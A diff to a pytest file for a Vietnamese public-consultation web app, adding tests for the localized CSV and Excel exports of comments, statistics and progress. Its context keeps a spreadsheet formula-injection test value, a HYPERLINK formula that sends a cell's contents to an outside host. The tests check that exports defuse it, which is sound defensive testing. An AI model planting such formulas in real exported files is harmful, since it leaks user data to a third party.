@@ -8,6 +8,7 @@ as a formula (a start of ``=``, ``+``, ``-``, ``@``, tab or carriage return) get
 
 import csv
 import io
+from datetime import datetime, timedelta
 from typing import Any
 
 import openpyxl
@@ -15,6 +16,7 @@ from fastapi.testclient import TestClient
 
 from tests.conftest import World
 from tests.factories import Campaign
+from ykien.core.clock import VN_TZ as VN
 
 EVIL = '=HYPERLINK("http://x/?"&N2,"Xem")'
 CONTENTS = [
@@ -116,3 +118,99 @@ def test_the_progress_file_never_holds_a_formula(
         headers=world.auth("secretary_p"),
     )
     assert EVIL in _no_formula(_xlsx_cells(resp))
+
+
+def _xlsx_rows(resp: Any) -> list[list[Any]]:
+    assert resp.status_code == 200, resp.text
+    sheet = openpyxl.load_workbook(io.BytesIO(resp.content)).worksheets[0]
+    return [list(row) for row in sheet.iter_rows()]
+
+
+def test_the_comments_export_in_three_languages_with_ids_dates_and_ancestry(
+    client: TestClient, world: World, campaign: Campaign
+) -> None:
+    body = campaign.comment(world, stance="amend", channel="media", category="party_member")
+    resp = client.post("/api/v1/comments", headers=world.auth("entry_a1"), json=body)
+    assert resp.status_code == 201, resp.text
+    stored = resp.json()
+    who = world.auth("secretary_p")
+
+    def export(**params: str) -> Any:
+        return client.get("/api/v1/comments/export", params=params, headers=who)
+
+    vi = _csv(export())
+    row = dict(zip(vi[0], vi[1], strict=True))
+    assert row["Mã ý kiến"] == stored["id"]
+    assert row["Loại ý kiến"] == "Đề nghị sửa đổi" and row["Hình thức"] == "Báo chí, truyền thông"
+    assert row["Đối tượng góp ý"] == "Đảng viên"
+    assert row["ID đơn vị nhập"] == str(world.units["A1"])
+    assert row["ID văn kiện"] == str(campaign.document_id)
+    assert row["ID mục"] == str(campaign.sections["I.1"])
+    assert (row["Tỉnh"], row["Huyện"], row["Xã"], row["Khu dân cư"]) == (
+        "Tỉnh Kiên Giang",
+        "Thành phố Rạch Giá",
+        "Phường Vĩnh Thanh Vân",
+        "Khu phố 1",
+    )
+    assert row["Thời điểm nhập"].endswith("+07:00") and row["Thời điểm sửa gần nhất"]
+
+    en = dict(zip(*_csv(export(labels="en"))[:2], strict=True))
+    assert en["Stance"] == "Amend" and en["Channel"] == "Mass media" and en["Province"]
+    codes = dict(zip(*_csv(export(labels="codes"))[:2], strict=True))
+    assert codes["stance"] == "amend" and codes["channel"] == "media"
+    assert codes["id"] == stored["id"] and codes["updated_at"] and codes["residential_area"]
+
+    header, first = _xlsx_rows(export(format="xlsx"))[:2]
+    cells = {h.value: c for h, c in zip(header, first, strict=True)}
+    day = cells["Ngày lấy ý kiến"]
+    assert day.is_date and day.number_format == "dd/mm/yyyy"
+    assert day.value.date().isoformat() == body["collected_on"]
+    at = cells["Thời điểm nhập"]
+    assert at.is_date and at.number_format == "dd/mm/yyyy hh:mm:ss"
+    created = datetime.fromisoformat(stored["created_at"]).astimezone(VN)
+    assert abs(at.value - created.replace(tzinfo=None)) < timedelta(seconds=1)  # Vietnam's time
+
+
+def test_the_stats_file_by_section_carries_the_document_and_section_ids(
+    client: TestClient, world: World, campaign: Campaign
+) -> None:
+    body = campaign.comment(world)
+    assert client.post("/api/v1/comments", headers=world.auth("entry_a1"), json=body).is_success
+    url = f"/api/v1/units/{world.units['P']}/stats"
+    params = {"group_by": ["section", "stance"], "consultation_id": campaign.consultation_id}
+    who = world.auth("secretary_p")
+    rows = _csv(client.get(url, params={**params, "format": "csv"}, headers=who))
+    assert rows[0] == [
+        "ID văn kiện",
+        "ID mục",
+        "Mục",
+        "Tên mục",
+        "Loại ý kiến",
+        "Số ý kiến",
+        "Số lượt người",
+    ]
+    assert rows[1][:2] == [str(campaign.document_id), str(campaign.sections["I.1"])]
+    assert rows[1][4] == "Đề nghị bổ sung"
+    en = _csv(client.get(url, params={**params, "format": "csv", "labels": "en"}, headers=who))
+    assert en[0][0] == "Document id" and en[1][4] == "Add"
+    codes = _xlsx_rows(
+        client.get(url, params={**params, "format": "xlsx", "labels": "codes"}, headers=who)
+    )
+    assert [c.value for c in codes[0]][:2] == ["document_id", "section_id"]
+    assert codes[1][4].value == "add"
+
+
+def test_the_progress_file_in_english_with_dates(
+    client: TestClient, world: World, campaign: Campaign
+) -> None:
+    resp = client.get(
+        f"/api/v1/units/{world.units['C1']}/progress",
+        params={"consultation_id": campaign.consultation_id, "format": "xlsx", "labels": "en"},
+        headers=world.auth("secretary_p"),
+    )
+    rows = _xlsx_rows(resp)
+    assert [c.value for c in rows[0]][:4] == ["Unit id", "Unit", "Level", "Meetings"]
+    assert rows[1][2].value == "Residential area" and rows[1][7].value == "Missing"
+    deadline = rows[1][10]
+    assert deadline.is_date and deadline.number_format == "dd/mm/yyyy"
+    assert rows[-1][1].value == "Total (whole unit)"
